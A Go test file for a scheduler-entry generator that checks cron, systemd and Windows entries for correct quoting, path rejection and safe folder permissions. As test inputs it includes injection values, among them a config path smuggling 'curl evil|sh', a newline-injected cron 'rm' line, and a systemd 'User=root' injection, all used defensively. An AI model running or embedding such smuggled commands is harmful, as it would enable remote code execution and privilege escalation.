package schedule_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/callroll/callroll/pkg/schedule"
)

// Paths with spaces, quotes and the signs that mean something to a scheduler come out as they went in. The tests of the program
// run the entries.
func TestQuotes(t *testing.T) {
	hard := `/srv/a b's "c" 100% $HOME\x;.yaml`
	for format, want := range map[schedule.Format]string{
		schedule.Cron:    `--config '/srv/a b'\''s "c" 100'\%' $HOME\x;.yaml'`,
		schedule.Systemd: `--config "/srv/a b's \"c\" 100%% $$HOME\\x;.yaml"`,
	} {
		got, err := schedule.Entry(format, schedule.Command{Program: "/usr/bin/callroll", Config: hard})
		if err != nil || !strings.Contains(got, want+"\n") {
			t.Errorf("%s: %v, want %s in\n%s", format, err, want, got)
		}
	}
}

func TestBadPaths(t *testing.T) {
	good := func(f schedule.Format) string { return f.Default().Program }
	for _, c := range []struct {
		format       schedule.Format
		config, says string
	}{
		{schedule.Cron, "callroll.yaml", "not an absolute path"},
		{schedule.Cron, "/a\n* * * * * rm", "control character"},
		{schedule.Systemd, "/a\nUser=root", "control character"},
		{schedule.Systemd, "/home/me/callroll.yaml", "below /etc/callroll"},
		{schedule.Systemd, "/etc/../root/callroll.yaml", "hidden from it"},
		{schedule.Windows, `callroll.yaml`, "absolute path of Windows"},
		{schedule.Windows, `C:\a" --sandbox "b`, "absolute path of Windows"},
		{schedule.Windows, `C:\callroll.yaml`, "folder of its own"},
		{schedule.Windows, `C:/x/../callroll.yaml`, "folder of its own"},
		{schedule.Windows, `C:\x\.. \callroll.yaml`, "folder of its own"},
		{schedule.Windows, `C:\Users\joe\callroll.yaml`, "folder of its own"},
		{schedule.Windows, `C:\users\joe\callroll\callroll.yaml`, "folder of its own"},
		{schedule.Windows, `C:\ProgramData\callroll.yaml`, "folder of its own"},
		{schedule.Windows, `c:\windows\system32\callroll.yaml`, "folder of its own"},
	} {
		entry, err := schedule.Entry(c.format, schedule.Command{Program: good(c.format), Config: c.config})
		if err == nil || !strings.Contains(err.Error(), c.says) || entry != "" {
			t.Errorf("%s with %q: %v, want %q", c.format, c.config, err, c.says)
		}
	}
	if _, err := schedule.Entry("at", schedule.Command{}); err == nil {
		t.Error("there is an entry for at")
	}
}

// A program that the service would not see has to be installed.
func TestHiddenProgram(t *testing.T) {
	c := schedule.Command{Program: "/home/me/callroll", Config: "/etc/callroll/callroll.yaml"}
	entry, err := schedule.Entry(schedule.Systemd, c)
	if err != nil || !strings.Contains(entry, "ExecStart=/usr/local/bin/callroll sync") {
		t.Errorf("%v in\n%s", err, entry)
	}
	if first := schedule.Steps(schedule.Systemd, c)[0].Text; first != "copy /home/me/callroll, which the service cannot see, to /usr/local/bin/callroll" {
		t.Errorf("the first step is %q", first)
	}
}

// A program that another user may replace does not run as SYSTEM.
func TestProgramOfWindows(t *testing.T) {
	for program, want := range map[string]string{
		`C:\Users\joe\Downloads\callroll.exe`:  `C:\Program Files\callroll\callroll.exe`,
		`D:\callroll.exe`:                      `C:\Program Files\callroll\callroll.exe`,
		`C:\Program Files\tools\callroll.exe`:  `C:\Program Files\tools\callroll.exe`,
		`C:\Program Files\..\tmp\callroll.exe`: "",
	} {
		c := schedule.Command{Program: program, Config: `C:\ProgramData\callroll\callroll.yaml`}
		entry, err := schedule.Entry(schedule.Windows, c)
		if want == "" {
			if err == nil {
				t.Errorf("%s is taken: %s", program, entry)
			}
			continue
		}
		if err != nil || !strings.Contains(entry, "<Command>"+want+"</Command>") {
			t.Errorf("%s: %v in\n%s", program, err, entry)
		}
		if told := strings.Contains(schedule.Steps(schedule.Windows, c)[0].Text, "a copy of "+program); told != (want != program) {
			t.Errorf("the steps for %s: %v", program, told)
		}
	}
}

// Every entry has steps, and they name the folder of the configuration.
func TestSteps(t *testing.T) {
	for _, f := range schedule.Formats() {
		if len(schedule.Steps(f, f.Default())) == 0 {
			t.Errorf("%s has no steps", f)
		}
		if !slices.ContainsFunc(schedule.Steps(f, f.Default()), func(s schedule.Step) bool {
			return strings.Contains(s.Text, "run it once by hand before") && strings.Contains(s.Command, "diff")
		}) {
			t.Errorf("no step of %s is a run by hand", f)
		}
	}
	for _, f := range []schedule.Format{schedule.Kubernetes, schedule.GitHub, schedule.AzureDevOps, schedule.GitLab} {
		if !slices.ContainsFunc(schedule.Steps(f, f.Default()), func(s schedule.Step) bool {
			return strings.Contains(s.Text, "federated credential") && strings.HasSuffix(s.Command, "/docs/security-review.md")
		}) {
			t.Errorf("no step of %s is about its federated credential", f)
		}
	}
	commands := func(f schedule.Format, c schedule.Command) (all []string) {
		for _, step := range schedule.Steps(f, c) {
			all = append(all, step.Command)
		}
		return all
	}
	windows := commands(schedule.Windows, schedule.Command{Config: `D:\call roll\callroll.yaml`})
	// What others were given in a folder of theirs is taken away before the folder gives anything.
	want := []string{`icacls "D:\call roll" /setowner`, `icacls "D:\call roll" /reset /T`, `icacls "D:\call roll" /inheritance:r`}
	if !slices.EqualFunc(windows[2:5], want, strings.HasPrefix) {
		t.Errorf("the commands are %q", windows)
	}
	systemd := commands(schedule.Systemd, schedule.Command{Config: "/etc/x; curl evil|sh #/c.yaml"})
	if !slices.Contains(systemd, "chmod 644 '/etc/x; curl evil|sh #/c.yaml'") {
		t.Errorf("the commands are %q", systemd)
	}
}
